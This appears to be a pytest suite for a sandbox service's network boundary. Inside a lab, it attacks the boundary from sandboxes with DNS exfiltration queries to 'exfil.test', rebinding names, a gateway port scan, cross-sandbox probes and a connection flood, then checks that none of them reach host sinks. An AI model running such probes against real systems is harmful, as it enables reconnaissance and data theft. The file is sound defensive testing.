# SPDX-License-Identifier: Apache-2.0
"""The network boundary, attacked from inside a sandbox and judged at sinks on the host.

netlab puts listeners on every destination a sandbox must never reach (cloud metadata,
private ranges, every host address) and logs every query its upstream DNS server sees. A
connection that looks successful from inside proves nothing: the proxy accepts every TCP
connection before it decides. Only what arrives at a sink counts.
"""

import shutil
import socket
import time

import pytest

import isola_client as ic
import netlab
from netlab import WEB, OTHER, METADATA, PRIVATE, HOST_ADDR, run_client, net_info
from netlab import lab, nd, c, mk  # noqa: F401 (the module's fixtures, shared with test_network)

# netlab routes the metadata and private addresses to its namespace by rules every lab
# adds at the same preference: two labs at once would catch each other's traffic.
pytestmark = pytest.mark.host_exclusive


@pytest.fixture
def host_sink():
    s = netlab.HostSink()
    yield s
    s.close()


def host_addresses():
    """Every IPv4 address of the host (its own interfaces, not the lab's)."""
    out = netlab.sh("ip", "-4", "-o", "addr", "show").stdout
    return sorted({line.split()[3].split("/")[0] for line in out.splitlines()})


def test_forbidden_destinations_unreachable_under_allow_all(c, mk, lab, host_sink):
    sid = mk({"default": "allow"})
    gw = net_info(c, sid)["gateway"]
    # Positive control: the path works, so the silence below means something.
    m = lab.mark()
    run_client(c, sid, "tcp", WEB, 8080)
    assert len(lab.connections(m, dest=WEB)) == 1, lab.events(m)

    m = lab.mark()
    hints = []
    for dst in [METADATA] + PRIVATE:
        for port in (80, 443, 8080):
            hints.append(run_client(c, sid, "tcp", dst, port))
        hints.append(run_client(c, sid, "http", dst, dst, 80))
        hints.append(run_client(c, sid, "tls", dst, dst, 443))
        hints.append(run_client(c, sid, "udp", dst, 80))
    # Every host address, the sandbox's gateway included, TCP and UDP.
    targets = sorted(set(host_addresses() + [gw, HOST_ADDR]) - {"127.0.0.1"})
    for dst in targets:
        hints.append(run_client(c, sid, "tcp", dst, host_sink.port))
        hints.append(run_client(c, sid, "http", "localhost", dst, host_sink.port))
        hints.append(run_client(c, sid, "udp", dst, host_sink.port))
    # A name that the proxy resolves must not lead there either.
    hints.append(run_client(c, sid, "http", "rebind.allowed.test", WEB, 80))
    hints.append(run_client(c, sid, "http", "priv.allowed.test", WEB, 80))
    hints.append(run_client(c, sid, "http", "loop.allowed.test", WEB, host_sink.port))
    hints.append(run_client(c, sid, "tls", "rebind.allowed.test", WEB, 443))
    # DNS over TLS is dropped even to an allowed address.
    hints.append(run_client(c, sid, "tcp", WEB, 853))
    time.sleep(0.5)
    for dst in [METADATA] + PRIVATE:
        assert lab.connections(m, dest=dst) == [], (dst, hints)
    # Under allow-all the proxy may dial the address the sandbox itself chose (a public one)
    # when the name's own addresses are denied; what matters is that nothing above was reached.
    # DNS over TLS never leaves, not even to an address the policy allows.
    assert [x for x in lab.connections(m) if x[1].endswith(":853")] == [], hints
    assert host_sink.events == [], (host_sink.events, targets)


def test_dns_exfiltration_confined_to_allowed_names(c, mk, lab):
    sid = mk({"allow": ["*.allowed.test"]})
    secret = "s3cr3t" + "a" * 57
    m = lab.mark()
    hints = [
        run_client(c, sid, "dns", f"{secret}.exfil.test", 1),
        run_client(c, sid, "dns", f"{secret}.{secret}.exfil.test", 16),
        run_client(c, sid, "dns", "exfil.test", 16),
        run_client(c, sid, "dns", "allowed.test", 16),  # the apex is not under *.
        run_client(c, sid, "dns", f"{secret}.other.test", 28),
        # Straight at the lab's own DNS server, UDP and TCP: redirected to isola's resolver.
        run_client(c, sid, "dns", f"{secret}.exfil.test", 1, netlab.NS_ADDR),
        run_client(c, sid, "dns", f"{secret}.exfil.test", 16, netlab.NS_ADDR, "tcp"),
        # Allowed names: forwarded, TXT included (exfiltration confined to them).
        run_client(c, sid, "dns", f"{secret}.allowed.test", 16),
        run_client(c, sid, "dns", "www.allowed.test", 1),
    ]
    time.sleep(0.3)
    seen = lab.queries(m)
    assert seen, hints
    assert all(name.endswith(".allowed.test") for name, _ in seen), (seen, hints)
    assert not any("exfil" in n or "other" in n for n, _ in seen), seen
    for h in hints[:7]:
        assert h.get("rcode") == 5, hints  # REFUSED by isola's resolver
    # Every query the upstream saw came from the host (isola's resolver), none from a sandbox.
    lines = [l for l in lab.text()[m:].splitlines() if l.startswith("Q ")]
    assert {l.split()[3] for l in lines} == {HOST_ADDR}, lines


def test_dns_rebinding_blocked(c, mk, lab):
    sid = mk({"allow": ["*.allowed.test"]})
    ok = run_client(c, sid, "dns", "www.allowed.test", 1)
    assert ok["addrs"] == [WEB], ok  # control
    for name in ("rebind.allowed.test", "loop.allowed.test", "priv.allowed.test"):
        res = run_client(c, sid, "dns", name, 1)
        assert res.get("rcode") == 0 and res.get("addrs") == [], (name, res)
    m = lab.mark()
    run_client(c, sid, "http", "rebind.allowed.test", WEB, 80)
    run_client(c, sid, "http", "priv.allowed.test", WEB, 80)
    time.sleep(0.3)
    assert lab.connections(m) == [], lab.events(m)


def test_gateway_scan_finds_only_resolver_and_proxy(c, mk, nd, host_sink):
    sid = mk({"default": "allow"})
    gw = net_info(c, sid)["gateway"]
    # Listeners on the host at the ports a scan would look at first.
    extra = []
    for port in (22, 80, 443, 2375, 8080, 10250):
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            s.bind((gw, port))
        except OSError:
            s.close()
            continue
        s.listen(8)
        s.setblocking(False)
        extra.append(s)
    ports = [22, 53, 80, 443, 2375, 8080, 10250, nd.port, host_sink.port]
    script = (
        "import socket\n"
        f"for p in {ports!r}:\n"
        "    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):\n"
        "        s = socket.socket(socket.AF_INET, kind); s.settimeout(0.5)\n"
        "        try:\n"
        f"            s.connect(('{gw}', p)); s.send(b'x')\n"
        "        except OSError:\n"
        "            pass\n"
        "        s.close()\n")
    c.exec(sid, cmd=["python3", "-c", script], timeout=60)
    time.sleep(0.5)
    accepted = []
    for s in extra:
        try:
            s.accept()
            accepted.append(s.getsockname())
        except BlockingIOError:
            pass
        s.close()
    assert accepted == [], accepted
    assert host_sink.events == [], host_sink.events
    # What answered is the proxy (it logs a decision for each TCP connection), nothing else.
    assert "egress proxy" in nd.log_text() or "proxy" in nd.log_text()


def start_ready(c, sid, script):
    """Starts `python3 -c script` in the background of sid and waits (up to 10 s) until it
    made /tmp/ready, its sign that it set up what the test needs."""
    c.request("POST", f"/v1/sandboxes/{sid}/processes", json={"cmd": ["python3", "-c", script]})
    for _ in range(100):
        if c.exec(sid, cmd=["test", "-e", "/tmp/ready"])["exit_code"] == 0:
            break
        time.sleep(0.1)

def test_other_sandboxes_unreachable(c, mk):
    a = mk({"default": "allow"})
    b = mk({"default": "allow"})
    bi = net_info(c, b)
    server = (
        "import socket, threading, time\n"
        "out = open('/tmp/hits', 'a', buffering=1)\n"
        "t = socket.socket(); t.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
        "t.bind(('0.0.0.0', 9000)); t.listen(8)\n"
        "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(('0.0.0.0', 9001))\n"
        "def tcp():\n"
        "    while True:\n"
        "        x, p = t.accept(); out.write(f'tcp {p[0]}\\n'); x.close()\n"
        "def udp():\n"
        "    while True:\n"
        "        _, p = u.recvfrom(100); out.write(f'udp {p[0]}\\n')\n"
        "threading.Thread(target=tcp, daemon=True).start()\n"
        "threading.Thread(target=udp, daemon=True).start()\n"
        "open('/tmp/ready', 'w').close()\n"
        "time.sleep(60)\n")
    start_ready(c, b, server)
    # Control: B's own listener works.
    run_client(c, b, "tcp", "127.0.0.1", 9000)
    for dst in (bi["address"], bi["gateway"]):
        run_client(c, a, "tcp", dst, 9000)
        run_client(c, a, "udp", dst, 9001)
        run_client(c, a, "http", "x", dst, 9000)
    time.sleep(0.5)
    hits = c.read_file(b, "/tmp/hits").decode().split("\n")
    assert [h for h in hits if h] == ["tcp 127.0.0.1"], hits


def test_flood_does_not_starve_another_sandbox(lab):
    """One sandbox opens many fast downloads; the proxy's per-sandbox connection limit and
    token bucket hold it, and another sandbox still gets through promptly."""
    d = netlab.start_isolad("--egress-max-conns", "4", "--egress-rate", "4M")
    try:
        c = d.client(timeout=60)
        a = c.create_sandbox(network={"default": "allow"})["id"]
        b = c.create_sandbox(network={"allow": ["allowed.test"]})["id"]
        flood = (
            "import socket, threading\n"
            "def dl():\n"
            "    try:\n"
            f"        s = socket.create_connection(('{WEB}', 80), timeout=30)\n"
            "        s.sendall(b'GET /big/20000000 HTTP/1.1\\r\\nHost: w\\r\\n\\r\\n')\n"
            "        while s.recv(1 << 16): pass\n"
            "    except OSError: pass\n"
            "for _ in range(24): threading.Thread(target=dl).start()\n")
        m = lab.mark()
        c.request("POST", f"/v1/sandboxes/{a}/processes",
                  json={"cmd": ["python3", "-c", flood]})
        time.sleep(3)
        flood_conns = len(lab.connections(m, dest=WEB))
        t0 = time.time()
        got = run_client(c, b, "http", "allowed.test", WEB, 80)
        took = time.time() - t0
        hi = [e for e in lab.connections(m, dest=WEB) if b"Host: allowed.test" in e[2]]
        assert len(hi) == 1, (got, lab.events(m)[-5:])
        assert took < 10, f"the other sandbox waited {took:.1f}s behind the flood"
        # At most the limit of the flooding sandbox's connections were let through at once
        # (each 20 MB download lasts >= 5 s at 4 MB/s).
        assert flood_conns <= 4, f"{flood_conns} flood connections reached the sink"
        n = net_info(c, a)["counters"]
        assert n["denied"] >= 1, n
    finally:
        problems = netlab.stop_isolad(d)
    assert not problems, problems


def _ports_and_table(d):
    """(resolver port, proxy port, nftables table) from an isolad's start lines."""
    import re
    text = d.log_text()
    m = re.search(r"resolver port (\d+), proxy port (\d+)", text)
    t = re.search(r"table inet (isola_[0-9a-f]+)", text)
    assert m and t, text[-2000:]
    return int(m.group(1)), int(m.group(2)), t.group(1)


def _in_lab(lab, code, timeout=15):
    """Runs python code in the lab's namespace (a network that is not a sandbox's)."""
    import subprocess
    import sys
    r = subprocess.run(["ip", "netns", "exec", lab.ns, sys.executable, "-c", code],
                       capture_output=True, text=True, timeout=timeout)
    return r.stdout.strip() + r.stderr.strip()


def test_resolver_and_proxy_refuse_other_networks(nd, lab, host_sink):
    """From a network that is not a sandbox (the lab, behind the host's veth), the proxy and
    the resolver do not answer, while a host service on another port does (the control)."""
    dns_port, proxy_port, _ = _ports_and_table(nd)
    probe = ("import socket\n"
             "def tcp(p):\n"
             "    try:\n"
             f"        socket.create_connection(('{HOST_ADDR}', p), timeout=3).close(); return 'open'\n"
             "    except OSError as e: return type(e).__name__\n"
             "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3)\n"
             "q = bytes.fromhex('4242010000010000000000000761')+b'llowed'+bytes.fromhex('0474657374000001000100')\n"
             f"u.sendto(q, ('{HOST_ADDR}', {dns_port}))\n"
             "try: u.recv(512); udp = 'answered'\n"
             "except OSError as e: udp = type(e).__name__\n"
             f"print(tcp({host_sink.port}), tcp({proxy_port}), tcp({dns_port}), udp)\n")
    out = _in_lab(lab, probe).split()
    assert out == ["open", "TimeoutError", "TimeoutError", "TimeoutError"], out


def test_a_killed_isolads_table_leaves_host_sockets_alone(lab):
    """A table outlives an isolad killed with SIGKILL, and its resolver and proxy port numbers
    go back to the ephemeral pool. A host socket that gets one of them, as a client's source
    port or as a listener's port, keeps working on loopback (the drop rules once matched
    every packet to those ports: SYN-ACKs to such a client were dropped and its connect hung
    for minutes, which made unrelated tests time out)."""
    import threading
    d = netlab.start_isolad()
    dns_port, proxy_port, table = _ports_and_table(d)
    d.stop(kill9=True)
    try:
        assert table in netlab.sh("nft", "list", "tables").stdout  # the premise: it stayed
        # A TCP client whose source port is the dead proxy's port.
        srv = socket.socket()
        srv.bind(("127.0.0.1", 0))
        srv.listen(4)
        threading.Thread(target=lambda: srv.accept()[0].sendall(b"hi"), daemon=True).start()
        cl = socket.socket()
        cl.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        cl.bind(("127.0.0.1", proxy_port))
        cl.settimeout(5)
        cl.connect(srv.getsockname())
        assert cl.recv(2) == b"hi"
        cl.close()
        srv.close()
        # A TCP listener on the dead resolver's port.
        lst = socket.socket()
        lst.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        lst.bind(("127.0.0.1", dns_port))
        lst.listen(4)
        socket.create_connection(("127.0.0.1", dns_port), timeout=5).close()
        lst.close()
        # A UDP client on the dead resolver's port gets its reply.
        echo = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        echo.bind(("127.0.0.1", 0))
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.bind(("127.0.0.1", dns_port))
        u.settimeout(5)
        u.sendto(b"ping", echo.getsockname())
        data, peer = echo.recvfrom(16)
        echo.sendto(data, peer)
        assert u.recv(16) == b"ping"
        u.close()
        echo.close()
    finally:
        netlab.sh("nft", "delete", "table", "inet", table, check=False)
        shutil.rmtree(d.state_dir, ignore_errors=True)


def test_a_recycled_slot_keeps_nothing_of_its_last_sandbox(lab):
    """Network slots (net.c) are made ahead and never reused: a sandbox that gets the /30
    its predecessor had (--net-slots 0: each create makes its slot once the last one's block
    is free again) finds none of its state: no listening or connected socket, no abstract
    unix socket, no neighbour or conntrack entry, no route or address but its own, and
    nothing sent to its address reaches a leftover of the first."""
    d = netlab.start_isolad("--net-slots", "0")
    try:
        c = d.client(timeout=60)
        a = c.create_sandbox(network={"default": "allow"})["id"]
        ai = net_info(c, a)
        # The first sandbox leaves all it can: listeners (TCP, UDP, abstract unix), an
        # outgoing connection to the lab (a conntrack entry and a neighbour entry for the
        # gateway), and a process that would log anything that reaches it.
        leave = (
            "import socket, time, os\n"
            "t = socket.socket(); t.bind(('0.0.0.0', 9100)); t.listen(8)\n"
            "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(('0.0.0.0', 9101))\n"
            "x = socket.socket(socket.AF_UNIX); x.bind('\\0isola-slot-probe'); x.listen(1)\n"
            "try:\n"
            f"    k = socket.create_connection(('{WEB}', 80), timeout=5)\n"
            "except OSError: pass\n"
            "open('/tmp/ready', 'w').close()\n"
            "time.sleep(600)\n")
        start_ready(c, a, leave)
        first = c.sh(a, "cat /proc/net/tcp /proc/net/udp /proc/net/unix /proc/net/arp")
        assert "isola-slot-probe" in first and ":238C" in first, first  # 9100 = 0x238C
        c.delete_sandbox(a)
        # The first slot's veth is deleted behind the answer; the next slot reuses its /30.
        ic.wait_for(lambda: netlab.sh("ip", "link", "show", ai["interface"],
                                   check=False).returncode != 0,
                    10, what=f"{ai['interface']} to be removed")
        b = c.create_sandbox(network={"default": "allow"})["id"]
        bi = net_info(c, b)
        assert bi["address"] == ai["address"], (ai, bi)  # the test's premise: same /30
        assert bi["interface"] != ai["interface"], (ai, bi)
        seen = c.sh(b, "cat /proc/net/tcp /proc/net/tcp6 /proc/net/udp /proc/net/udp6 "
                       "/proc/net/unix /proc/net/arp; ls /sys/class/net; ip -o addr; "
                       "ip route; cat /proc/net/nf_conntrack 2>/dev/null; true")
        for gone in (":238C", ":238D", "isola-slot-probe", WEB):
            assert gone not in seen, (gone, seen)
        # Only its own lo and eth0, and its own address.
        assert sorted(c.sh(b, "ls /sys/class/net").split()) == ["eth0", "lo"], seen
        assert c.sh(b, "ip -o -4 addr show eth0").split()[3] == bi["address"] + "/30", seen
        # Nothing sent to the address reaches a leftover: the port is closed.
        probe = ("import socket\ns = socket.socket(); s.settimeout(3)\n"
                 f"print(s.connect_ex(('{bi['address']}', 9100)))\n")
        assert c.sh(b, f"python3 -c \"{probe}\"").strip() == "111", "a listener survived"
        c.delete_sandbox(b)
    finally:
        problems = netlab.stop_isolad(d)
    assert not problems, problems
